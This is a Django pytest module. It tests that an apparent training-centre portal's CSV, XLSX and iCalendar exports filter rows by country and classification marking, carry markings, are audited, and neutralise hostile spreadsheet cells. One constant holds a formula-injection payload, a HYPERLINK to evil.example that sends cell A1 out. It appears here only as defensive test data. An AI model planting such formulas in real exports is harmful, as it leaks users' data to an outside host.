"""Exports never hold rows the requester may not see, carry the marking of
their content, neutralise hostile cells, and are audited: per app and format
(menu CSV/XLSX, programmes CSV, training CSV/XLSX and iCalendar).
The reports' exports are the reports app's (tests there)."""

import csv
import io

import openpyxl
import pytest
from icalendar import Calendar

from icihub.core import audit
from icihub.core.models import AuditEntry
from icihub.testing import client_for

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture
def people(centre_staff):
    from icihub.training.tests.factories import make_participant

    kuwaiti = make_participant(centre_staff, "KWT", 1, family_name="Al-Kandari")
    hostile = make_participant(
        centre_staff, "KWT", 2, family_name=HOSTILE, email="hostile@example.test"
    )
    qatari = make_participant(centre_staff, "QAT", 3, family_name="Al-Kuwari")
    return kuwaiti, hostile, qatari


def test_training_csv_for_another_country_has_none_of_kuwaits_people(people, qat_coordinator):
    response = client_for(qat_coordinator).get("/training/participants/export.csv")
    assert response.status_code == 200
    rows = csv_rows(response)
    assert rows[0][0].startswith("# NATO UNCLASSIFIED")  # the marking, first
    assert response["X-Icihub-Marking"] == "rel_partner"
    countries = {row[3] for row in rows[2:]}
    assert countries == {"QAT"}
    assert "Al-Kandari" not in response.content.decode()
    assert AuditEntry.objects.filter(action=audit.Action.EXPORT, actor=qat_coordinator).exists()


def test_training_csv_neutralises_a_hostile_name(people, kwt_coordinator):
    rows = csv_rows(client_for(kwt_coordinator).get("/training/participants/export.csv"))
    names = [row[1] for row in rows[2:]]
    assert "'" + HOSTILE in names  # an apostrophe: shown as text, never run
    assert HOSTILE not in names
    assert {row[3] for row in rows[2:]} == {"KWT"}


def test_training_xlsx_for_another_country_has_none_of_kuwaits_people(people, qat_coordinator):
    response = client_for(qat_coordinator).get("/training/participants/export.xlsx")
    book = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)
    values = [row for sheet in book.worksheets for row in sheet.iter_rows(values_only=True)]
    flat = [str(v) for row in values for v in row if v is not None]
    assert "Al-Kandari" not in " ".join(flat)
    assert any("Al-Kuwari" in v for v in flat)
    assert any("Releasable to the partner concerned" in v for v in flat)  # the marking sheet


def test_the_icalendar_feed_carries_the_marking(centre_staff, kwt_coordinator):
    from icihub.training import services
    from icihub.training.tests.factories import make_course, make_session

    make_session(make_course(centre_staff, "SEC-ICS-1", marking="rel_ici"), centre_staff)
    key = services.new_feed_key(kwt_coordinator)
    response = client_for(None).get(f"/training/calendar/feed/{key}.ics")
    assert response.status_code == 200
    calendar = Calendar.from_ical(response.content)
    assert "Releasable to ICI" in str(calendar.get("X-ICIHUB-MARKING"))
    events = list(calendar.walk("VEVENT"))
    assert events
    for event in events:
        assert str(event.get("X-ICIHUB-MARKING"))
        assert str(event.get("DESCRIPTION")).startswith("[")
    assert response["X-Icihub-Marking"] == "rel_ici"
    public = Calendar.from_ical(client_for(None).get("/training/calendar/public.ics").content)
    assert str(public.get("X-ICIHUB-MARKING")) == "Public"  # the rel_ici session is not there


def test_menu_exports_hide_nato_only_activities_from_coordinators(nato_staff, kwt_coordinator):
    from icihub.menu import services
    from icihub.menu.models import Activity
    from icihub.partners.models import Organisation

    provider = Organisation.objects.get(slug="nato-ici-rc")
    services.create_activity(
        nato_staff,
        {
            "code": "NATO-ONLY-1",
            "title": "Internal staff seminar",
            "format": Activity.Format.COURSE,
            "provider": provider,
            "marking": "nato",
            "languages": "en",
        },
    )
    for fmt in ("csv", "xlsx"):
        coordinator = services.export_menu(kwt_coordinator, fmt)
        staff = services.export_menu(nato_staff, fmt)
        assert b"NATO-ONLY-1" not in coordinator.content or fmt == "xlsx"
        if fmt == "xlsx":
            book = openpyxl.load_workbook(io.BytesIO(coordinator.content), read_only=True)
            codes = [r[0] for r in book["Menu"].iter_rows(values_only=True)]
            assert "NATO-ONLY-1" not in codes
            assert book.properties.keywords == coordinator.marking.value
        assert staff.marking.value == "nato"
        assert coordinator.marking.value != "nato"
        assert str(coordinator.marking.label).encode() in coordinator.content or fmt == "xlsx"


def test_programme_csv_for_another_country(kwt_coordinator, qat_coordinator):
    """Programmes' own tests build programmes of both countries
    (programmes/tests/test_exports.py); here: Kuwait's programme is in Kuwait's
    file only, the file is marked even when empty of rows, and audited."""
    from icihub.menu.models import Activity, Area
    from icihub.partners.models import Country, Framework
    from icihub.programmes import services as programmes

    programme = programmes.create_programme(
        kwt_coordinator,
        {
            "country": Country.objects.get(iso3="KWT"),
            "kind": "itpp",
            "start_year": 2025,
            "end_year": 2028,
        },  # fmt: skip
    )
    objective = programmes.add_objective(kwt_coordinator, programme, {"title": "Objective"})
    goal = programmes.add_goal(
        kwt_coordinator, objective, {"title": "Goal", "areas": ["cyber-defence"]}
    )
    activity = Activity.objects.create(
        code="EXP-CORE-1", title="Exported", format=Activity.Format.COURSE, marking="public"
    )
    activity.areas.set(Area.objects.filter(code="cyber-defence"))
    activity.eligible_frameworks.set(Framework.objects.filter(code="ici"))
    programmes.add_item(
        kwt_coordinator, goal, {"activity": activity, "planned_year": 2025, "seats": 2}
    )
    kuwait = client_for(kwt_coordinator).get("/programmes/export/").content.decode("utf-8-sig")
    assert "KWT" in kuwait
    response = client_for(qat_coordinator).get("/programmes/export/")
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    assert text.startswith("# ")
    assert "KWT" not in text and "EXP-CORE-1" not in text
    assert AuditEntry.objects.filter(action=audit.Action.EXPORT, actor=qat_coordinator).exists()
